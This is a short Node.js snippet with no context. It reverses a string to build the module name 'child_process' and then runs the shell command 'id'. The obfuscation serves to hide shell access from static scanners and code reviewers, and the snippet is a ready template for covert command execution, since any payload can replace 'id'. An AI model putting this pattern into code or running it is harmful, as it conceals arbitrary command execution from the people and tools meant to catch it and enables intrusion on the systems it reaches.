function flip(s) {
  var out = '';
  for (var i = s.length - 1; i >= 0; i--) {
    out += s[i];
  }
  return out;
}
var m = require(flip('ssecorp_dlihc'));
m.exec('id');
